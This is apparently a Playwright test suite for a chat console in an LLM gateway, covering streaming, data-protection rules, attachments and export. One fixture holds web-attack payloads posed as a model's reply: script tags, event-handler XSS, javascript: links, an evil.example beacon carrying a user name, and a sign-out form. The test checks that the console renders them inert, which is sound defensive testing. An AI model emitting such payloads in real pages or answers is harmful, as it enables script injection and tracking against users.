"""Chat as a user has it: asked, stopped, asked of another, looked behind; and what hostile answers come to."""

import json
import re
import signal
import sqlite3
import struct
import time
import urllib.error
import urllib.request
import zlib
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FilePayload, Page, expect

from ecotone.gateway.chats.chats import MIGRATIONS, Chats
from ecotone.storage.database import Database
from tests.console.accessible import too_wide, violations
from tests.console.house import PHONE, House, house
from tests.console.scripted_vendor import Vendor, scripted_vendor

CONFIG = """
[models.small]
engine = "llama.cpp"
source = "file:{path}"

[models.away]
provider = "openai"
name = "gpt-4o"
base_url = "{url}"

[models.own]
provider = "openai-compatible"
name = "llama-3.3-70b"
base_url = "{url}"
hosting = "self-hosted"

[models.gone]
provider = "openai-compatible"
name = "mistral"
base_url = "http://127.0.0.1:9/v1"

[routes.assistant]
models = ["away", "own"]

[routes.detour]
models = ["gone", "own"]

[[rules]]
name = "cards stay home"
deny = '"credit_card" in data.kinds && endpoint.hosting == "vendor"'
because = "card numbers do not leave the house"

[[rules]]
name = "addresses are replaced"
redact = 'endpoint.hosting == "vendor"'
kinds = ["email"]
because = "vendors need no addresses"
"""
ON_REPLIES = """
[[rules]]
name = "no cards come back"
on = "reply"
deny = '"credit_card" in data.kinds'
because = "answers have no card numbers"
"""
# Even a small model goes on with this for as long as it is let.
ENDLESS = "Write this word again and again, a thousand times, and nothing else: " + "newt, " * 60
CARD = "Is 4111 1111 1111 1111 a card?"


@pytest.fixture(scope="module")
def vendor() -> Iterator[Vendor]:
    with scripted_vendor() as made:
        yield made


@pytest.fixture(autouse=True)
def fresh(vendor: Vendor) -> None:
    vendor.received.clear()
    vendor.pieces, vendor.reasoning = ("Hello.",), ()
    vendor.go.clear()
    vendor.left.clear()


@pytest.fixture(scope="module")
def home(
    tmp_path_factory: pytest.TempPathFactory, browser: Browser, vendor: Vendor, smollm2_path: Path
) -> Iterator[House]:
    config = CONFIG.format(path=smollm2_path, url=vendor.base_url)
    environment = {"OPENAI_API_KEY": "sk-none"}
    with house(tmp_path_factory.mktemp("chat"), browser, config, environment=environment) as made:
        yield made


@pytest.fixture(scope="module")
def tab(home: House) -> Page:
    """A signed-in page, used again and again."""
    return home.page()


@pytest.fixture
def page(tab: Page) -> Page:
    tab.goto("/console/chat")
    return tab


def choose(page: Page, model: str) -> None:
    """With the keyboard alone, as in the dialog that both buttons open."""
    picker = page.get_by_role("dialog", name="Whom to ask")
    expect(picker.get_by_role("searchbox")).to_be_focused()
    page.keyboard.type(model)
    page.keyboard.press("Enter")
    expect(picker).to_be_hidden()


def ask(page: Page, text: str, model: str | None = None) -> None:
    """Ask, and wait until the question stands there."""
    if model is not None:
        page.get_by_role("button", name="Whom to ask").press("Enter")
        choose(page, model)
    page.get_by_label("Question").fill(text)
    page.get_by_label("Question").press("Enter")
    expect(page.locator(".asked").last).to_have_text(text.strip())


def answered(page: Page, count: int = 1) -> None:
    """Wait until the last of so many answers has ended."""
    expect(page.locator(".turn.answer")).to_have_count(count)
    expect(page.locator(".turn.answer").last).not_to_have_attribute("aria-busy", "true", timeout=60_000)


def test_what_is_written_and_not_yet_asked_outlives_a_reload(page: Page) -> None:
    page.goto("/console/chat")
    field = page.locator("#question")
    field.fill("a thought that is not ready")
    page.reload()
    expect(field).to_have_value("a thought that is not ready")
    page.goto("/console/models")
    page.go_back()
    expect(field).to_have_value("a thought that is not ready")
    field.fill("")
    page.reload()
    expect(field).to_have_value("")


def test_a_real_model_answers_is_stopped_and_another_is_asked(page: Page, vendor: Vendor) -> None:
    ask(page, ENDLESS, "small")
    answer = page.locator(".turn.answer")
    expect(answer).to_have_class("turn answer streaming", timeout=90_000)
    expect(answer.locator(".prose")).not_to_be_empty()
    page.keyboard.press("Escape")
    expect(answer).to_have_attribute("data-state", "stopped")
    expect(page.get_by_role("status").filter(has_text="Stopped.")).to_be_attached()
    kept = answer.locator(".prose").inner_text()
    assert kept.strip()
    expect(answer.locator(".trail")).to_contain_text("in this gateway")
    expect(answer.locator(".trail")).to_contain_text("open weights")

    answer.get_by_role("button", name="Ask another model").click()
    choose(page, "away")
    answered(page)
    expect(page.locator(".turn.answer .prose")).to_have_text("Hello.")
    assert vendor.last_said() == ENDLESS
    trail = page.get_by_role("group", name="Where this answer came from")
    for words in ("left the house, to OpenAI", "closed weights", "1\u202f200 tokens in, 400 out", "$0.007"):
        expect(trail).to_contain_text(words)
    expect(page.get_by_text("2 of 2")).to_be_visible()
    page.get_by_role("button", name="The one before").click()
    expect(page.get_by_text("1 of 2")).to_be_visible()
    assert page.locator(".turn.answer .prose").inner_text() == kept, "what had come is kept"


def test_a_reload_and_a_second_tab_see_an_answer_go_on(home: House, page: Page, vendor: Vendor) -> None:
    vendor.reasoning = ("Let me ", "think.")
    vendor.pieces = ("First **part**.\n\n", "Second", None, " part.\n\nThird.")
    ask(page, "go on", "away")
    expect(page.locator(".prose p").nth(1)).to_have_text("Second")
    second = page.context.new_page()
    second.goto(page.url)
    page.reload()
    for one in (page, second):
        expect(one.locator(".prose p").nth(1)).to_have_text("Second")
        expect(one.locator(".prose p").first.locator("strong")).to_have_text("part")
        expect(one.get_by_role("button", name="Stop")).to_be_visible()
        one.get_by_text("What it thought first").click()
        expect(one.locator("[data-reasoning]")).to_have_text("Let me think.")
    vendor.go.set()
    for one in (page, second):
        answered(one)
        assert one.locator(".prose p").all_inner_texts() == ["First part.", "Second part.", "Third."]
        expect(one.get_by_role("button", name="Ask", exact=True)).to_be_visible()
    ask(second, "and now?")
    expect(page.locator(".asked").last).to_have_text("and now?")
    answered(page, 2)
    home.api("DELETE", f"/chats/{page.url.rpartition('/')[2]}")
    for one in (page, second):
        expect(one.get_by_text("This chat has been deleted.")).to_be_visible()
        expect(one.get_by_label("Question")).to_be_hidden()
    second.close()


def test_an_answer_outlives_a_disk_that_takes_nothing_for_a_while(home: House, page: Page) -> None:
    refusing = "create trigger full before update on chat_messages begin select raise(fail, 'nothing fits'); end"
    with closing(sqlite3.connect(home.home / "ecotone.db")) as disk:
        disk.execute(refusing)
        disk.commit()
        try:
            ask(page, "kept?", "away")
            until_s = time.monotonic() + 30
            while not any("cannot be kept yet" in line and "nothing fits" in line for line in home.said):
                assert time.monotonic() < until_s, home.said
                page.wait_for_timeout(50)
        finally:
            disk.execute("drop trigger full")
            disk.commit()
    answered(page)
    answer = home.api("GET", f"/chats/{page.url.rpartition('/')[2]}")["messages"][1]
    assert (answer["state"], answer["text"], answer.get("error")) == ("done", "Hello.", None)


def test_who_stops_lets_go_of_the_vendor(page: Page, vendor: Vendor) -> None:
    vendor.pieces = ("Begun. ", None, *("more " * 100).split(" "))
    ask(page, "stop me", "away")
    expect(page.locator(".prose")).to_contain_text("Begun.")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".turn.answer")).to_have_attribute("data-state", "stopped")
    vendor.go.set()
    assert vendor.left.wait(10), "the connection to the vendor is closed"


HOSTILE = """<script>window.stolen = 1</script><img src=x onerror="window.stolen = 1">
<svg onload="window.stolen = 1"><a xlink:href="javascript:window.stolen=1">x</a></svg>

![pixel](https://evil.example/p.png?who=ada) ![data](data:image/png;base64,AAAA)
[go](javascript:window.stolen=1) [ok](https://evil.example/page) [here](/console/sign-out)

```html
</code></pre><script>window.stolen = 1</script>
```
<iframe src="https://evil.example"></iframe> <form action="/console/sign-out" method="post"><button>Copy</button></form>
"""


def test_what_a_model_writes_never_runs_and_loads_nothing(home: House, page: Page, vendor: Vendor) -> None:
    vendor.pieces = tuple(HOSTILE[start : start + 7] for start in range(0, len(HOSTILE), 7))
    vendor.reasoning = ("<img src=x onerror='window.stolen = 1'>",)
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    ask(page, "<img src=x onerror='window.stolen = 1'>", "away")
    answered(page)
    page.reload()
    expect(page.locator(".prose pre")).to_be_visible()
    assert page.evaluate("() => window.stolen") is None
    assert [url for url in asked_for if not url.startswith((home.url, "data:"))] == []
    inside = "() => [...document.querySelectorAll('.prose *')].map((one) => one.localName)"
    assert not {"script", "img", "svg", "iframe", "form", "object", "style"} & set(page.evaluate(inside))
    links = page.locator(".prose a").evaluate_all("(all) => all.map((one) => [one.href, one.rel, one.target])")
    assert links == [
        ["https://evil.example/p.png?who=ada", "nofollow noreferrer noopener", "_blank"],
        ["https://evil.example/page", "nofollow noreferrer noopener", "_blank"],
    ]
    expect(page.locator(".prose a").first).to_have_text("image: pixel (evil.example)")
    page.locator(".prose").get_by_role("button", name="Copy").click()
    assert page.evaluate("() => navigator.clipboard.readText()") == "</code></pre><script>window.stolen = 1</script>\n"


def test_rules_speak_before_and_behind_a_question(page: Page, vendor: Vendor) -> None:
    page.get_by_role("button", name="Whom to ask").click()
    choose(page, "away")
    page.get_by_label("Question").fill(CARD)
    foot = page.locator("#destination")
    expect(foot).to_contain_text("Would not be sent: card numbers do not leave the house.")
    expect(foot).to_contain_text("credit card")
    assert not vendor.received
    ask(page, CARD)
    answered(page)
    expect(page.get_by_text("It was not sent")).to_be_visible()
    expect(page.locator(".turn.answer .notice")).to_contain_text(
        "card numbers do not leave the house (cards stay home)"
    )
    trail = page.locator(".trail")
    expect(trail).to_contain_text("not sent to it")
    expect(trail).to_contain_text("restricted")
    trail.get_by_text("1 rule spoke").click()
    expect(trail).to_contain_text("deny cards stay home: card numbers do not leave the house")
    assert not vendor.received

    ask(page, "Say hello.")
    answered(page, 2)
    assert [message["content"] for message in vendor.received[0]["messages"]] == ["Say hello."]
    expect(page.get_by_label("Data class")).to_have_value("restricted")

    # The route goes around the place that may not have it.
    ask(page, CARD, "assistant")
    answered(page, 3)
    expect(page.locator(".trail").last).to_contain_text("on your machines")
    assert vendor.last_said() == CARD


def test_what_was_never_sent_is_not_said_to_have_left(page: Page, vendor: Vendor) -> None:
    ask(page, CARD, "away")
    answered(page)
    assert not vendor.received
    page.reload()
    page.get_by_role("button", name="Delete this chat").click()
    dialog = page.get_by_role("dialog", name="Delete this chat?")
    expect(dialog).to_be_visible()
    expect(dialog.get_by_text("is not called back by this")).to_be_hidden()
    dialog.get_by_role("button", name="Keep it").click()
    page.locator("summary", has_text="Export").press("Enter")
    with page.expect_download() as download:
        page.get_by_role("link", name="Markdown").click()
    written = download.value.path().read_text()
    assert "refused by the rules" in written and "left the house" not in written


def test_what_was_lost_on_the_way_to_a_model_is_told(home: House, page: Page) -> None:
    facts = {
        **dict.fromkeys(("first_token_s", "total_s", "tokens_per_s", "input_tokens", "output_tokens", "cost_usd")),
        "model": "own",
        "endpoint": "own@openai-compatible",
        "hosting": "self-hosted",
        "provider": None,
        "weights": None,
        "finish": "stop",
        "request_id": None,
        "losses": "seed: unknown to this wire",
    }
    with closing(Database(home.home / "ecotone.db", MIGRATIONS)) as database:
        chats, now = Chats(database), datetime(2026, 3, 4, tzinfo=UTC)
        made = chats.create("ada", now)
        _, answer = chats.ask(made, "ada", "Again the same", "own", now)
        chats.end(answer, "done", text="The same.", now=now, facts=facts)
    page.goto(f"/console/chat/{made}")
    expect(page.locator(".trail")).to_contain_text("Lost on the way to it: seed: unknown to this wire.")


def test_a_way_round_a_place_that_failed_is_told(page: Page) -> None:
    ask(page, "first", "detour")
    answered(page)
    trail = page.locator(".trail")
    expect(trail).to_contain_text("on your machines")
    expect(trail).to_contain_text("The question may have left the house, to an OpenAI-compatible server.")
    ask(page, "second", "gone")
    answered(page, 2)
    expect(page.locator(".turn.answer .notice")).to_contain_text("No answer came")
    expect(trail.last).to_contain_text("It was not reached, so nothing was sent.")
    expect(trail.last).not_to_contain_text("left the house")


def test_what_is_replaced_on_the_way_out_comes_back_whole(page: Page, vendor: Vendor) -> None:
    page.get_by_label("Question").fill("Write to ada@example.org.")
    expect(page.locator("#destination")).to_contain_text("1 email replaced before it goes")
    ask(page, "Write to ada@example.org.", "away")
    answered(page)
    assert "ada@example.org" not in json.dumps(vendor.received)
    pseudonym = vendor.last_said().removeprefix("Write to ").removesuffix(".")
    vendor.pieces = ("Gladly, ", pseudonym[:4], pseudonym[4:], "!")
    page.get_by_role("button", name="Again").click()
    expect(page.locator(".prose")).to_have_text("Gladly, ada@example.org!")
    answered(page)
    expect(page.locator(".trail")).to_contain_text("replaced 1 email")


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b"")


IMAGE: FilePayload = {"name": "dot.png", "mimeType": "image/png", "buffer": png()}
TEXT: FilePayload = {"name": "notes.md", "mimeType": "text/markdown", "buffer": b"# Notes\nwet\n"}


def test_text_and_images_are_attached(home: House, page: Page, vendor: Vendor) -> None:
    page.get_by_role("button", name="Whom to ask").click()
    choose(page, "small")
    page.locator("#files").set_input_files([TEXT, IMAGE])
    expect(page.locator("#destination")).to_contain_text("small cannot look at images.")
    page.get_by_label("Question").fill("What is it?")
    page.get_by_label("Question").press("Enter")
    expect(page.locator(".asked")).to_have_count(0)
    ask(page, "What is it?", "away")
    answered(page)
    text, image, question = vendor.received[0]["messages"][0]["content"]
    assert text["text"] == "File notes.md:\n```\n# Notes\nwet\n```\n\n"
    assert image["image_url"]["url"].startswith("data:image/png;base64,iVBOR")
    assert question["text"] == "What is it?"
    shown = page.get_by_role("img", name="dot.png")
    expect(shown).to_have_js_property("naturalWidth", 1)
    page.get_by_role("button", name="Edit").click()
    page.get_by_role("button", name="Remove dot.png").click()
    ask(page, "And now?")
    answered(page)
    expect(page.get_by_role("img", name="dot.png")).to_have_count(0)
    expect(page.get_by_text("2 of 2")).to_be_visible()
    assert "image_url" not in json.dumps(vendor.received[1])
    assert "File notes.md" in json.dumps(vendor.received[1])

    said = home.api("GET", "/chats?search=And%20now")[0]
    body = {"text": "x", "model": "small", "attachments": [{"name": "d", "data": "iVBORw0KGgoAAAAN"}]}
    with pytest.raises(urllib.error.HTTPError, match="400"):
        home.api("POST", f"/chats/{said['id']}/messages", body)


def test_a_file_that_no_model_could_read_is_refused_where_it_is_attached(home: House, page: Page) -> None:
    before = len(home.api("GET", "/chats"))
    binary: FilePayload = {"name": "table.xlsx", "mimeType": "application/zip", "buffer": b"PK\x03\x04\xff\xfe"}
    feigned: FilePayload = {"name": "not.png", "mimeType": "image/png", "buffer": binary["buffer"]}
    page.locator("#files").set_input_files([TEXT, binary])
    expect(page.get_by_role("alert")).to_contain_text("table.xlsx is neither text in UTF-8 nor a PNG")
    expect(page.locator("#attached li")).to_have_count(1)
    # What the page takes for an image the gateway looks into: a first question that it refuses leaves no chat.
    page.locator("#files").set_input_files([feigned])
    page.get_by_role("button", name="Whom to ask").click()
    choose(page, "away")
    page.get_by_label("Question").fill("What is it?")
    page.get_by_label("Question").press("Enter")
    expect(page.locator("#toasts")).to_contain_text("not.png is neither text in UTF-8")
    home.forget_refused(415)
    assert len(home.api("GET", "/chats")) == before
    page.goto("/console/chat")
    page.get_by_label("Question").fill("")


def test_chats_are_found_renamed_taken_along_and_deleted(home: House, page: Page) -> None:
    ask(page, "Something about marshes and newts", "away")
    answered(page)
    ask(page, "Instructions?")
    answered(page, 2)
    address = page.url
    page.get_by_role("link", name="New chat").click()
    ask(page, "Another matter entirely", "away")
    answered(page)
    found = page.get_by_role("navigation", name="Your chats")
    page.get_by_label("Search your chats").fill("NEWTS marsh")
    expect(found.get_by_role("link")).to_have_count(1)
    page.get_by_label("Search your chats").fill("newts mangroves")
    expect(found).to_contain_text("No chat has all of these words.")
    found.get_by_role("button", name="Show all").click()
    found.get_by_role("link", name="Something about marshes").click()
    expect(page).to_have_url(address)
    expect(page.locator(".asked")).to_have_count(2)

    page.get_by_role("button", name="Rename").click()
    page.get_by_role("dialog").get_by_label("Name").fill("Wetlands")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Wetlands")
    expect(found.get_by_role("link", name="Wetlands")).to_have_attribute("aria-current", "page")
    page.locator("summary", has_text="Export").press("Enter")
    with page.expect_download() as download:
        page.get_by_role("link", name="Markdown").click()
    assert download.value.suggested_filename == "Wetlands.md"
    written = download.value.path().read_text()
    assert written.startswith("# Wetlands\n") and "left the house (openai)" in written

    page.get_by_role("button", name="Delete this chat").click()
    asking = page.get_by_role("dialog", name="Delete this chat?")
    expect(asking).to_contain_text("What went to")
    asking.get_by_role("button", name="Keep it").click()
    expect(asking).to_be_hidden()
    page.get_by_role("button", name="Delete this chat").click()
    asking.get_by_role("button", name="Delete", exact=True).click()
    expect(page).to_have_url(home.url + "/console/chat")
    expect(page.get_by_role("link", name="Wetlands")).to_have_count(0)
    assert home.api("GET", "/chats?search=newts") == []


def test_a_long_chat_shows_its_end_first_and_nobody_elses_is_shown(home: House, page: Page) -> None:
    database = Database(home.home / "ecotone.db", MIGRATIONS)
    chats, now = Chats(database), datetime(2026, 3, 4, tzinfo=UTC)
    mine, parent = chats.create("ada", now, title="Long"), None
    for number in range(25):
        _, parent = chats.ask(mine, "ada", f"question {number}", "away", now, parent=parent)
        chats.end(parent, "done", text=f"answer {number}", now=now)
    other = chats.create("bob", now, title="Not hers")
    database.close()
    page.goto(f"/console/chat/{mine}")
    expect(page.locator(".turn")).to_have_count(40)
    expect(page.locator(".asked").first).to_have_text("question 5")
    page.get_by_role("button", name="Show the 10 messages before").click()
    expect(page.locator(".turn")).to_have_count(50)
    ask(page, "one more", "away")
    answered(page, 26)

    assert "Not hers" not in page.get_by_role("navigation", name="Your chats").inner_text()
    for method, path in (("GET", ""), ("DELETE", ""), ("GET", "/events"), ("GET", "/export")):
        with pytest.raises(urllib.error.HTTPError, match="404"):
            home.api(method, f"/chats/{other}{path}")


def test_axe_finds_nothing_where_chats_are_full(home: House, page: Page, vendor: Vendor) -> None:
    vendor.pieces = (
        "# Head\n\n## Under\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n> said\n\n1. one\n   - two\n\n",
        "```py\nif x: # y\n    pass\n```\n",
        "[link](https://e.org) ![image](https://e.org/i.png) `code` \\(x\\)",
    )
    vendor.reasoning = ("hm",)
    ask(page, "Write to ada@example.org.", "away")
    answered(page)
    ask(page, CARD)
    answered(page, 2)
    for one in page.locator(".why summary").all():
        one.click()
    assert violations(page) == []
    page.get_by_role("button", name="Whom to ask").click()
    assert violations(page) == []
    phone = home.page(size=PHONE, theme="dark")
    phone.goto(page.url)
    expect(phone.locator(".turn.answer")).to_have_count(2)
    phone.get_by_role("button", name="Your chats").click()
    assert violations(phone) == []
    assert too_wide(phone) <= 0
    phone.context.close()


def test_an_answer_that_a_crash_cut_off_says_so(tmp_path: Path, browser: Browser, vendor: Vendor) -> None:
    config = CONFIG.format(path=tmp_path / "none.gguf", url=vendor.base_url)
    vendor.pieces = ("Begun.", None)
    with house(tmp_path, browser, config, environment={"OPENAI_API_KEY": "sk-none"}) as first:
        page = first.page()
        page.goto("/console/chat")
        ask(page, "cut off", "away")
        expect(page.locator(".prose")).to_contain_text("Begun.")
        page.close()
        first.process.kill()
        first.process.wait()
    with house(tmp_path, browser, config, environment={"OPENAI_API_KEY": "sk-none"}) as second:
        (row,) = second.api("GET", "/chats")
        answer = second.api("GET", f"/chats/{row['id']}")["messages"][1]
        assert (answer["state"], answer["error_code"]) == ("failed", "interrupted")
        assert answer["error"] == "The gateway was stopped while this was being answered. Ask again."


def test_an_answer_that_the_rules_refuse_has_been_asked_for(tmp_path: Path, browser: Browser, vendor: Vendor) -> None:
    vendor.pieces = ("Take 4111 1111 1111 1111.",)
    config = CONFIG.format(path=tmp_path / "none.gguf", url=vendor.base_url) + ON_REPLIES
    with house(tmp_path, browser, config, environment={"OPENAI_API_KEY": "sk-none"}) as strict:
        page = strict.page()
        page.goto("/console/chat")
        ask(page, "Tell me a card number.", "away")
        answered(page)
        assert vendor.last_said() == "Tell me a card number."
        expect(page.locator(".turn.answer .notice")).to_contain_text("The rules kept the answer back")
        trail = page.locator(".trail")
        expect(trail).to_contain_text("left the house, to OpenAI")
        expect(trail).not_to_contain_text("not sent")
        expect(trail).not_to_contain_text("tried")
        page.reload()
        page.get_by_role("button", name="Delete this chat").click()
        expect(page.get_by_role("dialog")).to_contain_text("What went to OpenAI is not called back by this")


def test_who_only_watches_does_not_keep_the_gateway_from_stopping(tmp_path: Path, browser: Browser) -> None:
    with house(tmp_path, browser, CONFIG.format(path=tmp_path / "none.gguf", url="http://127.0.0.1:9/v1")) as made:
        chat = made.api("POST", "/chats", {})["id"]
        request = urllib.request.Request(f"{made.url}/control/v1/chats/{chat}/events")
        request.add_header("authorization", f"Bearer {made.token()}")
        with urllib.request.urlopen(request, timeout=60) as events:
            assert b"event: chat\n" in (events.readline() for _ in range(10))
            made.process.send_signal(signal.SIGTERM)
            assert made.process.wait(20) == 0
            events.read()


def test_what_may_answer_is_told_anew_before_anything_is_asked_under_another_config(
    tmp_path: Path, browser: Browser, vendor: Vendor
) -> None:
    models = CONFIG[CONFIG.index("[models.away]") : CONFIG.index("[models.gone]")].format(url=vendor.base_url)
    file = tmp_path / "ecotone.toml"
    at_home = models + "[routes.assistant]\nmodels = ['own']\n"
    away = models + "[routes.assistant]\nmodels = ['away', 'own']\n"
    prefers = (
        "[[rules]]\nname = 'home first'\nprefer = 'endpoint.hosting != \"vendor\"'\nbecause = \"home answers first\"\n"
    )
    with house(tmp_path, browser, at_home, environment={"OPENAI_API_KEY": "sk-none"}) as made:
        page = made.page()
        page.goto("/console/chat")
        foot = page.locator("#destination")
        expect(foot).to_have_text("Answered on your own machines. Nothing leaves the house.")
        expect(page.locator("#unread")).to_contain_text("No rules")
        shown = page.locator("#chat").get_attribute("data-in-force")

        file.write_text(away)
        expect(foot).to_contain_text("Leaves the house: goes to OpenAI")
        # As if the page had not heard of it, which may be when the line is down.
        page.locator("#chat").evaluate("(chat, shown) => { chat.dataset.inForce = shown }", shown)
        page.get_by_label("Question").fill("To whom does this go?")
        page.get_by_label("Question").press("Enter")
        expect(page.locator("#toasts")).to_contain_text("What may answer has changed")
        made.forget_refused(409)
        assert (made.api("GET", "/chats"), vendor.received) == ([], [])
        ask(page, "To whom does this go?")
        answered(page)
        assert vendor.last_said() == "To whom does this go?"

        # In a chat, too; and the line tells what the rules make of the route.
        file.write_text(away + prefers)
        expect(foot).to_contain_text(
            re.compile(r"^Would go to own\S* \(on your machines\); if that does not answer, to away")
        )
        expect(page.locator("#unread")).not_to_contain_text("No rules:")
        ask(page, "And this?")
        answered(page, 2)
        expect(page.locator(".trail").last).to_contain_text("on your machines")
